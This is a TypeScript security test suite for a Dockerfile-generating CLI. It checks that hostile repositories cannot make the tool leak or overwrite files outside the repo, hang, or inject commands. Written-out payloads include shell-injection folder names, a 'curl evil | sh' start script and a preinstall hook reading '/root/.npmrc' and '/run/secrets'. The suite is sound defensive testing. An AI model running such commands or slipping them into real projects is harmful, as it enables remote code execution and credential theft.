// Hostile repositories handed to detect, generate and plan (issue 9): links in every position,
// FIFOs and sockets, huge and binary files, compose files pointing out, names built to inject.
// Every case runs the real CLI and checks the exit code, the error code, the JSON document, that
// nothing beside the repository changed and that the outside secret never shows up.
import { spawnSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { e2eEnv, uniqueName } from "../e2e/env.js";
import { type CliResult, hilt, NODE_ARGS, tempRepo } from "../helpers/cli.js";

const SECRET = "hilt-outside-secret-7f3a9c";
const REPO_ROOT = path.resolve(import.meta.dirname, "../..");
const EXPRESS = JSON.stringify({
  name: "api",
  scripts: { start: "node server.js" },
  dependencies: { express: "^4" },
});

interface Sandbox {
  repo: string;
  /** A folder beside the repository holding a secret: nothing may read or change it. */
  outside: string;
  parent: string;
  /** Files inside the repository, and links (targets are the test's own choice). */
  write(rel: string, content: string | Buffer): string;
  link(rel: string, target: string): void;
  dir(rel: string): string;
  fifo(rel: string): void;
}

function sandbox(files: Record<string, string> = {}): Sandbox {
  const parent = tempRepo({ "outside/secret": `${SECRET}\n`, "outside/secret.js": SECRET });
  const repo = path.join(parent, "repo");
  mkdirSync(repo);
  const box: Sandbox = {
    repo,
    outside: path.join(parent, "outside"),
    parent,
    write(rel, content) {
      const full = path.join(repo, rel);
      mkdirSync(path.dirname(full), { recursive: true });
      writeFileSync(full, content);
      return full;
    },
    link(rel, target) {
      mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
      symlinkSync(target, path.join(repo, rel));
    },
    dir(rel) {
      const full = path.join(repo, rel);
      mkdirSync(full, { recursive: true });
      return full;
    },
    fifo(rel) {
      mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
      const made = spawnSync("mkfifo", [path.join(repo, rel)]);
      expect(made.status).toBe(0);
    },
  };
  for (const [rel, content] of Object.entries(files)) box.write(rel, content);
  return box;
}

/** Every entry beside the repository, with contents and link targets. */
function snapshot(box: Sandbox): string {
  const out: string[] = [];
  const walk = (dir: string, rel: string) => {
    for (const name of readdirSync(dir).sort()) {
      const full = path.join(dir, name);
      const at = `${rel}/${name}`;
      if (full === box.repo) continue;
      const stat = lstatSync(full);
      if (stat.isSymbolicLink()) out.push(`${at} -> ${readlinkSync(full)}`);
      else if (stat.isDirectory()) {
        out.push(`${at}/`);
        walk(full, at);
      } else out.push(`${at} ${stat.mode.toString(8)} ${readFileSync(full, "base64")}`);
    }
  };
  walk(box.parent, "");
  return out.join("\n");
}

/** The CLI with a hard, short deadline (a FIFO regression fails instead of hanging). */
function hiltWithin(
  args: string[],
  options: { timeout?: number; uid?: number } = {},
): CliResult & { signal: NodeJS.Signals | null } {
  const result = spawnSync(process.execPath, [...NODE_ARGS, ...args], {
    cwd: REPO_ROOT,
    env: { PATH: process.env.PATH ?? "", HOME: options.uid ? "/tmp" : (process.env.HOME ?? "/") },
    encoding: "utf8",
    timeout: options.timeout ?? 25_000,
    ...(options.uid ? { uid: options.uid, gid: options.uid } : {}),
  });
  return {
    status: result.status,
    stdout: result.stdout,
    stderr: result.stderr,
    signal: result.signal,
  };
}

/** Runs the CLI, checks the exit code, no secret anywhere, nothing changed beside the repo. */
function run(box: Sandbox, args: string[], status: number, within?: number): CliResult {
  const before = snapshot(box);
  const result = within ? hiltWithin(args, { timeout: within }) : hilt(args);
  expect(result.status, result.stderr).toBe(status);
  expect(result.stdout).not.toContain(SECRET);
  expect(result.stderr).not.toContain(SECRET);
  expect(snapshot(box)).toBe(before);
  return result;
}

/** Exactly one JSON document on stdout. */
function json<T = Record<string, unknown>>(result: CliResult): T {
  return JSON.parse(result.stdout) as T;
}

interface Detected {
  kind: string;
  services: { name: string; path: string; dockerfile?: { value: string } }[];
  warnings: string[];
}

const detectJson = (box: Sandbox, within?: number) =>
  json<Detected>(run(box, ["detect", box.repo, "--json"], 0, within));

const errorCode = (result: CliResult) => json<{ error?: { code: string } }>(result).error?.code;

const generated = (box: Sandbox) =>
  json<{ files: { path: string; content: string }[]; skipped: string[] }>(
    run(box, ["generate", box.repo, "--json"], 0),
  );

/** Dockerfile instructions, continuation lines joined, comments and here-document bodies dropped. */
function instructions(dockerfile: string): string[] {
  const out: string[] = [];
  let heredoc: string | undefined;
  for (const line of dockerfile.replace(/\\\n\s*/g, "").split("\n")) {
    if (heredoc !== undefined) {
      if (line === heredoc) heredoc = undefined;
      continue;
    }
    if (line.trim() === "" || line.startsWith("#")) continue;
    out.push(line);
    heredoc = /<<'?(\w+)'?/.exec(line)?.[1];
  }
  return out;
}

const KEYWORDS =
  /^(FROM|RUN|CMD|LABEL|EXPOSE|ENV|ADD|COPY|ENTRYPOINT|VOLUME|USER|WORKDIR|ARG|ONBUILD|STOPSIGNAL|HEALTHCHECK|SHELL) /;

function expectWellFormed(dockerfile: string): void {
  for (const line of instructions(dockerfile)) expect(line).toMatch(KEYWORDS);
}

describe("generate never writes outside the service folder", () => {
  it("refuses a dangling Dockerfile link pointing outside, and creates nothing there", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.link("Dockerfile", path.join(box.outside, "planted"));
    const result = run(box, ["generate", box.repo], 2);
    expect(result.stderr).toMatch(/WOULD_OVERWRITE: Dockerfile is a symbolic link/);
    expect(existsSync(path.join(box.outside, "planted"))).toBe(false);
  });

  it("refuses a Dockerfile link to an outside file even with --force", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.link("Dockerfile", path.join(box.outside, "secret"));
    const result = run(box, ["generate", box.repo, "--force"], 2);
    expect(result.stderr).toMatch(/WOULD_OVERWRITE/);
  });

  it("refuses a .dockerignore link before writing anything at all", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.link(".dockerignore", path.join(box.outside, "secret"));
    run(box, ["generate", box.repo, "--force"], 2);
    expect(existsSync(path.join(box.repo, "Dockerfile"))).toBe(false);
  });

  it("never writes through a link to a file inside the repository either", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "", "keep.txt": "mine\n" });
    box.link(".dockerignore", "keep.txt");
    run(box, ["generate", box.repo, "--force"], 2);
    expect(readFileSync(path.join(box.repo, "keep.txt"), "utf8")).toBe("mine\n");
  });

  it("does not treat a service folder linked to the outside as a service", () => {
    const box = sandbox({});
    writeFileSync(path.join(box.outside, "package.json"), EXPRESS);
    box.link("api", box.outside);
    const detected = detectJson(box);
    expect(detected.services).toEqual([]);
    expect(detected.warnings.join("\n")).toMatch(/api: symlink points outside the repository/);
    const result = run(box, ["generate", box.repo], 0);
    expect(result.stderr).toMatch(/nothing to generate/);
  });

  it("does not follow a workspace glob into a linked folder", () => {
    const box = sandbox({ "package.json": JSON.stringify({ workspaces: ["apps/*"] }) });
    writeFileSync(path.join(box.outside, "package.json"), EXPRESS);
    box.link("apps/evil", box.outside);
    box.write("apps/ok/package.json", EXPRESS);
    box.write("apps/ok/server.js", "");
    expect(detectJson(box).services.map((s) => s.path)).toEqual(["apps/ok"]);
    run(box, ["generate", box.repo], 0);
    expect(existsSync(path.join(box.repo, "apps/ok/Dockerfile"))).toBe(true);
  });

  it("does not list a literal workspace entry that is a link leading out", () => {
    const box = sandbox({ "package.json": JSON.stringify({ workspaces: ["apps/link"] }) });
    writeFileSync(path.join(box.outside, "package.json"), EXPRESS);
    box.link("apps/link", box.outside);
    expect(detectJson(box).services).toEqual([]);
    run(box, ["generate", box.repo], 0);
  });

  it("warns about workspace globs that climb out, and ignores them", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ workspaces: ["../outside", "/etc", "apps/../../x"] }),
    });
    const warnings = detectJson(box).warnings.join("\n");
    expect(warnings).toMatch(/workspace glob "..\/outside" leaves the repository/);
    expect(warnings).toMatch(/workspace glob "\/etc" leaves the repository/);
  });

  it("refuses a generated file's folder that is a dangling link", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ workspaces: ["apps/*"] }),
      "package-lock.json": "{}",
      "apps/web/package.json": EXPRESS,
      "apps/web/server.js": "",
    });
    // The workspace member's own ignore file sits beside its Dockerfile: make that a link.
    box.link("apps/web/Dockerfile.dockerignore", path.join(box.outside, "nope"));
    const result = run(box, ["generate", box.repo], 2);
    expect(result.stderr).toMatch(/WOULD_OVERWRITE: apps\/web\/Dockerfile.dockerignore/);
    expect(existsSync(path.join(box.repo, "apps/web/Dockerfile"))).toBe(false);
  });

  it("answers a read-only folder with WRITE_FAILED, exit 2", () => {
    const box = sandbox({ "index.html": "<html></html>" });
    chmodSync(box.parent, 0o755);
    chmodSync(box.repo, 0o555);
    const before = snapshot(box);
    const result = hiltWithin(["generate", box.repo], { uid: 65534 });
    chmodSync(box.repo, 0o755);
    expect(result.status, result.stderr).toBe(2);
    expect(result.stderr).toMatch(/WRITE_FAILED: cannot write Dockerfile: permission denied/);
    expect(snapshot(box)).toBe(before);
  });

  it("refuses a Dockerfile that is a folder (exit 2, not 70)", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.dir("Dockerfile");
    expect(detectJson(box).services[0]?.dockerfile).toBeUndefined();
    const result = run(box, ["generate", box.repo, "--force"], 2);
    expect(result.stderr).toMatch(/WOULD_OVERWRITE: Dockerfile exists and is not a regular file/);
  });

  it("refuses to write over a FIFO named Dockerfile, without opening it", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.fifo("Dockerfile");
    const result = run(box, ["generate", box.repo, "--force"], 2, 25_000);
    expect(result.stderr).toMatch(/WOULD_OVERWRITE: Dockerfile exists and is not a regular file/);
  });
});

describe("detection reads only regular files inside the repository, and never hangs", () => {
  it.each([
    ["package.json"],
    ["Dockerfile"],
    ["go.mod"],
    ["pyproject.toml"],
    ["docker-compose.yml"],
    ["pnpm-workspace.yaml"],
    [".nvmrc"],
  ])("a FIFO named %s is skipped, not read", (name) => {
    const box = sandbox({ "api/package.json": EXPRESS, "api/server.js": "" });
    box.fifo(name);
    box.fifo(`api/${name === "package.json" ? "index.js" : name}`);
    const detected = detectJson(box, 25_000);
    expect(detected.kind).toBe("hilt.detect");
    expect(detected.services.map((s) => s.path)).toEqual(["api"]);
    run(box, ["generate", box.repo, "--json"], 0, 25_000);
  });

  it("a FIFO named like the entry file of package.json main is not opened", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ name: "x", main: "server.js", scripts: { start: "x" } }),
    });
    box.fifo("server.js");
    const detected = detectJson(box, 25_000);
    expect(detected.warnings.join("\n")).toMatch(/server\.js is not a regular file/);
  });

  it("a socket named package.json is skipped with a warning", async () => {
    const box = sandbox({});
    const server: Server = createServer();
    await new Promise<void>((resolve) =>
      server.listen(path.join(box.repo, "package.json"), resolve),
    );
    try {
      const detected = detectJson(box, 25_000);
      expect(detected.warnings.join("\n")).toMatch(/package\.json is not a regular file/);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it("a 50 MB package.json is 'too large', not 'not valid JSON'", () => {
    const box = sandbox({});
    // A sparse file: 50 MB by size, nothing on disk.
    truncateSync(box.write("package.json", "{"), 50 * 1024 * 1024);
    const warnings = detectJson(box).warnings.join("\n");
    expect(warnings).toMatch(/package\.json is too large \(52428800 bytes; the limit is \d+\)/);
    expect(warnings).not.toMatch(/not valid JSON/);
  });

  it("a huge Dockerfile is not reused, and generate will not overwrite it", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.write("Dockerfile", "FROM x\n");
    truncateSync(path.join(box.repo, "Dockerfile"), 60 * 1024 * 1024);
    const detected = detectJson(box);
    expect(detected.services[0]?.dockerfile).toBeUndefined();
    expect(detected.warnings.join("\n")).toMatch(/Dockerfile is too large/);
    run(box, ["generate", box.repo], 2);
  });

  it("a binary, non-UTF-8 package.json is 'not valid JSON', exit 0", () => {
    const box = sandbox({});
    box.write("api/package.json", Buffer.from([0xff, 0xfe, 0x00, 0x7b, 0xc3, 0x28, 0x80, 0x0a]));
    const detected = detectJson(box);
    expect(detected.warnings.join("\n")).toMatch(/api\/package\.json: not valid JSON/);
  });

  it("a package.json with the wrong type in every field is detected without a crash", () => {
    const box = sandbox({
      "package.json": JSON.stringify({
        name: 5,
        main: { x: 1 },
        scripts: "start",
        dependencies: ["express"],
        devDependencies: { vite: 5 },
        engines: { node: 20 },
        packageManager: 7,
        workspaces: { packages: "apps/*" },
      }),
      "api/package.json": JSON.stringify({ scripts: { start: ["node"] }, workspaces: 3 }),
      "web/package.json": "[1,2,3]",
      "lib/package.json": "null",
    });
    const detected = detectJson(box);
    expect(detected.kind).toBe("hilt.detect");
    run(box, ["generate", box.repo, "--json"], 0);
  });

  it("package.json main pointing outside is never read", () => {
    const box = sandbox({
      "package.json": JSON.stringify({
        name: "x",
        main: "../outside/secret.js",
        dependencies: { express: "4" },
      }),
    });
    const detected = detectJson(box);
    expect(JSON.stringify(detected)).not.toContain("outside/secret");
    expect(generated(box).files[0]?.content).not.toContain("outside");
  });

  it("a YAML alias bomb in pnpm-workspace.yaml ends quickly", () => {
    // Ten levels of nine-fold aliases: a billion strings if anything expanded them.
    const names = "abcdefghij";
    const lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < names.length; i++) {
      const prev = `*${names[i - 1]}`;
      lines.push(`${names[i]}: &${names[i]} [${Array(9).fill(prev).join(",")}]`);
    }
    lines.push("packages: *j");
    const box = sandbox({ "pnpm-workspace.yaml": lines.join("\n") });
    expect(detectJson(box, 25_000).services).toEqual([]);
  });

  it("a deeply nested tree under a ** workspace glob is walked only so deep", () => {
    const box = sandbox({ "package.json": JSON.stringify({ workspaces: ["apps/**"] }) });
    let deep = "apps";
    for (let i = 0; i < 60; i++) deep += `/d${i}`;
    box.write(`${deep}/package.json`, EXPRESS);
    box.write("apps/group/svc/package.json", EXPRESS);
    box.write("apps/group/svc/server.js", "");
    expect(detectJson(box, 25_000).services.map((s) => s.path)).toEqual(["apps/group/svc"]);
  });

  it("workspace negations and multi-star globs are honoured", () => {
    const box = sandbox({
      "package.json": JSON.stringify({
        workspaces: ["apps/*-svc", "libs/**", "!apps/skip-svc", "!libs/**/internal"],
      }),
      "apps/a-svc/package.json": EXPRESS,
      "apps/skip-svc/package.json": EXPRESS,
      "apps/other/package.json": EXPRESS,
      "libs/x/y/package.json": EXPRESS,
      "libs/x/internal/package.json": EXPRESS,
    });
    // apps/other does not match *-svc; the negations take out skip-svc and internal.
    expect(detectJson(box).services.map((s) => s.path)).toEqual(["apps/a-svc", "libs/x/y"]);
  });
});

describe("bad repository paths are coded JSON errors", () => {
  it("detect --json on a FIFO instead of a folder: NOT_A_DIRECTORY, exit 2, no hang", () => {
    const box = sandbox({});
    box.fifo("pipe");
    const result = run(box, ["detect", path.join(box.repo, "pipe"), "--json"], 2, 25_000);
    expect(errorCode(result)).toBe("NOT_A_DIRECTORY");
  });

  it("generate --json on a missing folder: PATH_NOT_FOUND, exit 2", () => {
    const box = sandbox({});
    const result = run(box, ["generate", path.join(box.repo, "nope"), "--json"], 2);
    expect(errorCode(result)).toBe("PATH_NOT_FOUND");
  });

  it("plan --json on a repository of links and FIFOs only: NO_SERVICES, exit 2", () => {
    const box = sandbox({});
    box.fifo("package.json");
    box.link("Dockerfile", path.join(box.outside, "secret"));
    box.link("api", box.outside);
    const result = run(box, ["plan", box.repo, "--json"], 2, 30_000);
    expect(errorCode(result)).toBe("NO_SERVICES");
  });
});

describe("compose files and reused Dockerfiles never lead out", () => {
  it.each([
    ["build.dockerfile", { context: ".", dockerfile: "../../outside/secret" }, "dockerfile"],
    ["build.dockerfile absolute", { context: "api", dockerfile: "/etc/passwd" }, "dockerfile"],
    ["build.context", { context: "../outside" }, "context"],
    ["build as a string", "../outside", "context"],
  ])("%s leaving the repository is refused, named and never read", (_what, build, field) => {
    const box = sandbox({
      "api/package.json": EXPRESS,
      "api/server.js": "",
      "docker-compose.yml": JSON.stringify({ services: { api: { build } } }),
    });
    const detected = detectJson(box);
    expect(detected.warnings.join("\n")).toContain(
      `PATH_OUTSIDE_ROOT: docker-compose.yml: services.api.build.${field}`,
    );
    expect(detected.services.every((s) => s.dockerfile === undefined)).toBe(true);
    const plan = run(box, ["plan", box.repo, "--json"], 0);
    expect(json<{ kind: string }>(plan).kind).toBe("hilt.plan");
  });

  it("a compose Dockerfile that is a link to an outside file is not reused", () => {
    const box = sandbox({
      "api/package.json": EXPRESS,
      "compose.yaml":
        "services:\n  api:\n    build:\n      context: api\n      dockerfile: build.df\n",
    });
    box.link("api/build.df", path.join(box.outside, "secret"));
    const detected = detectJson(box);
    expect(detected.services[0]?.dockerfile).toBeUndefined();
    expect(detected.warnings.join("\n")).toMatch(/api\/build\.df/);
    run(box, ["plan", box.repo, "--json"], 0);
  });

  it("an existing Dockerfile linked to an outside file is never reused or echoed", () => {
    const box = sandbox({ "package.json": EXPRESS, "server.js": "" });
    box.link("Dockerfile", path.join(box.outside, "secret"));
    const detected = detectJson(box);
    expect(detected.services[0]?.dockerfile).toBeUndefined();
    const plan = json<{ nodes: unknown[] }>(run(box, ["plan", box.repo, "--json"], 0));
    expect(plan.nodes).toHaveLength(1);
  });

  it.each([
    ["not YAML", "services: [unclosed"],
    ["services as a list", "services: [a, b]"],
    ["build as a number", "services:\n  api:\n    build: 5\n"],
    ["dockerfile as a map", "services:\n  api:\n    build: {context: api, dockerfile: {a: 1}}\n"],
    ["null document", "~"],
  ])("a compose file with %s is tolerated", (_what, text) => {
    const box = sandbox({ "api/package.json": EXPRESS, "compose.yaml": text });
    expect(detectJson(box).services.map((s) => s.path)).toEqual(["api"]);
  });
});

describe("names never inject into generated Dockerfiles", () => {
  const HOSTILE_GO = "x;echo $(id -u);exit 42;#";
  const goRepo = () =>
    sandbox({
      "go.mod": "module m\n\ngo 1.19\n",
      [`cmd/${HOSTILE_GO}/main.go`]:
        'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hi") }\n',
    });

  it("a Go cmd folder built to run a command reaches go build as one exec-form argument", () => {
    const box = goRepo();
    const dockerfile = generated(box).files.find((f) => f.path === "Dockerfile")?.content ?? "";
    expectWellFormed(dockerfile);
    const mentions = instructions(dockerfile).filter((l) => l.includes("echo $(id"));
    expect(mentions).toHaveLength(1);
    const argv = JSON.parse(mentions[0]?.slice(mentions[0].indexOf("[")) ?? "[]") as string[];
    expect(argv).toEqual([
      "go",
      "build",
      "-trimpath",
      "-ldflags=-s -w",
      "-o",
      "/out/app",
      `./cmd/${HOSTILE_GO}`,
    ]);
  });

  it("a newline in a workspace folder name adds no instruction, and the folder is named", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ workspaces: ["apps/*"] }),
      "package-lock.json": "{}",
      "apps/ok/package.json": EXPRESS,
      "apps/ok/server.js": "",
    });
    box.write("apps/x\nRUN touch /pwned\n#/package.json", EXPRESS);
    const detected = detectJson(box);
    expect(detected.services.map((s) => s.path)).toEqual(["apps/ok"]);
    expect(detected.warnings.join("\n")).toMatch(/name holds control characters; ignored/);
    for (const file of generated(box).files) {
      expect(file.content).not.toContain("/pwned");
      if (file.path.endsWith("Dockerfile")) expectWellFormed(file.content);
    }
  });

  it("a workspace folder with shell syntax is skipped with UNSAFE_NAME, the rest generated", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ workspaces: ["apps/*"] }),
      "package-lock.json": "{}",
      "apps/a$(touch pwned)/package.json": EXPRESS,
      "apps/ok/package.json": EXPRESS,
    });
    const out = generated(box);
    expect(out.files.map((f) => f.path)).toEqual([
      "apps/ok/Dockerfile",
      "apps/ok/Dockerfile.dockerignore",
    ]);
    expect(out.skipped.join("\n")).toMatch(/UNSAFE_NAME/);
    const wrote = run(box, ["generate", box.repo], 0);
    expect(wrote.stderr).toMatch(/UNSAFE_NAME/);
    expect(existsSync(path.join(box.repo, "apps/a$(touch pwned)/Dockerfile"))).toBe(false);
  });

  it("quotes, spaces and unicode in a folder name stay in comments only", () => {
    const name = `my "app" 'x' é`;
    const box = sandbox({ [`${name}/index.html`]: "<html></html>" });
    const dockerfile = generated(box).files.find((f) => f.path === `${name}/Dockerfile`)?.content;
    expect(dockerfile).toBeDefined();
    expectWellFormed(dockerfile ?? "");
    for (const line of instructions(dockerfile ?? "")) expect(line).not.toContain("app");
  });

  it("a unicode workspace folder is a plain path and builds from its own WORKDIR", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ workspaces: ["apps/*"] }),
      "package-lock.json": "{}",
      "apps/café-ü/package.json": EXPRESS,
    });
    const dockerfile = generated(box).files[0]?.content ?? "";
    expect(dockerfile).toContain("WORKDIR /app/apps/café-ü");
  });

  it("an entry file named with shell syntax never becomes the start command", () => {
    const box = sandbox({
      "package.json": JSON.stringify({ main: "x.js;id>p", dependencies: { express: "4" } }),
      "x.js;id>p": "",
    });
    const dockerfile = generated(box).files[0]?.content ?? "";
    expect(dockerfile).not.toContain("id>p");
    expect(dockerfile).toContain('CMD ["/bin/sh", "-c", "exec node index.js"]');
  });

  it("a start script with shell syntax runs through the package manager, not inline", () => {
    const box = sandbox({
      "package.json": JSON.stringify({
        scripts: { start: "node a.js; curl evil | sh" },
        dependencies: { express: "4" },
      }),
    });
    const dockerfile = generated(box).files[0]?.content ?? "";
    expect(dockerfile).not.toContain("curl");
    expect(dockerfile).toContain('CMD ["/bin/sh", "-c", "exec npm start"]');
  });

  it("an EXPOSE port out of range in a reused Dockerfile is not a port", () => {
    const box = sandbox({ "api/Dockerfile": "FROM x\nEXPOSE 999999\n", "api/main.py": "" });
    const detected = json<{ ports: Record<string, number> }>(
      run(box, ["detect", box.repo, "--json"], 0),
    );
    expect(detected.ports).toEqual({});
  });

  it("role mode renders a well-formed Dockerfile whose installs run scripts off", () => {
    const box = sandbox({
      "client/package.json": JSON.stringify({ dependencies: { vite: "5" } }),
      "server/package.json": EXPRESS,
    });
    const out = json<{ files: { path: string; content: string }[] }>(
      run(box, ["generate", box.repo, "--roles", "--json"], 0),
    );
    expectWellFormed(out.files.find((f) => f.path === "Dockerfile")?.content ?? "");
    expect(out.files.find((f) => f.path === "Dockerfile")?.content).toContain("--ignore-scripts");
  });

  it("generated Node installs run without lifecycle scripts and without the npm token", () => {
    const box = sandbox({
      "package.json": JSON.stringify({
        scripts: { preinstall: "cat /root/.npmrc", start: "node server.js" },
        dependencies: { express: "4" },
      }),
      "package-lock.json": "{}",
    });
    const dockerfile = generated(box).files[0]?.content ?? "";
    for (const line of instructions(dockerfile).filter((l) => / (npm ci|npm install) /.test(l))) {
      if (line.includes("-g")) continue;
      expect(line).toContain("--ignore-scripts");
    }
    // No registry configuration is ever copied into a layer (which would outlive its secret).
    expect(dockerfile).not.toMatch(/> \/root\/\.npmrc/);
  });
});

const env = e2eEnv();

describe.skipIf(!env)("a hostile Go cmd folder, built for real", () => {
  const images: string[] = [];
  afterAll(() => {
    for (const image of images) spawnSync("docker", ["rmi", "-f", image]);
  });

  it("go receives the folder name verbatim: no shell ran it, nothing exited 42", () => {
    const box = sandbox({
      "go.mod": "module m\n\ngo 1.19\n",
      "cmd/x;echo $(id -u);exit 42;#/main.go": "package main\n\nfunc main() {}\n",
    });
    run(box, ["generate", box.repo], 0);
    const tag = `${uniqueName("hostile-go")}:1`;
    images.push(tag);
    const built = spawnSync(
      "docker",
      [
        "buildx",
        "build",
        "--progress=plain",
        "--target",
        "build",
        "--build-arg",
        `GO_IMAGE=${env?.registry}/library/golang:1.19-bookworm`,
        "-t",
        tag,
        box.repo,
      ],
      { encoding: "utf8", timeout: 120_000 },
    );
    // go refuses the import path: the whole name, `;` and `$(` included, was one argument.
    expect(built.stderr).toContain('malformed import path "m/cmd/x;echo $(id -u);exit 42;#"');
    expect(built.stderr).not.toMatch(/exit code: 42/);
    expect(built.status).not.toBe(0);
  });

  it("an untrusted Node install runs no preinstall script and keeps no token in a layer", () => {
    const token = `npm_${uniqueName("canary").replace(/-/g, "")}`;
    const box = sandbox({
      "package.json": JSON.stringify({
        name: "thief",
        version: "1.0.0",
        scripts: { preinstall: "cat /run/secrets/* /root/.npmrc > /tmp/seen", start: "node s.js" },
        dependencies: {},
      }),
      "s.js": "",
    });
    const npmrc = path.join(box.parent, "npmrc");
    writeFileSync(
      npmrc,
      `registry=https://user:pw@registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${token}\n`,
    );
    run(box, ["generate", box.repo], 0);
    const tag = `${uniqueName("untrusted-node")}:1`;
    images.push(tag);
    const built = spawnSync(
      "docker",
      [
        ...["buildx", "build", "--load", "--no-cache", "--target", "build", "-t", tag],
        ...["--build-arg", `NODE_IMAGE=${env?.registry}/library/node:20-bookworm-slim`],
        ...["--secret", `id=npmrc,src=${npmrc}`, box.repo],
      ],
      { encoding: "utf8", timeout: 180_000 },
    );
    expect(built.status, built.stderr.slice(-2000)).toBe(0);
    const inside = spawnSync(
      "docker",
      ["run", "--rm", "--entrypoint", "sh", tag, "-c", "ls /tmp/seen"],
      { encoding: "utf8" },
    );
    expect(inside.stderr).toMatch(/'\/tmp\/seen': No such file/);
    // Secret mounts leave nothing behind: no layer, config or history holds the token.
    const saved = spawnSync("docker", ["save", tag], { maxBuffer: 2 * 1024 * 1024 * 1024 });
    expect(saved.status).toBe(0);
    expect(saved.stdout.includes(token)).toBe(false);
    expect(`${built.stdout}${built.stderr}${inside.stdout}`).not.toContain(token);
  });
});
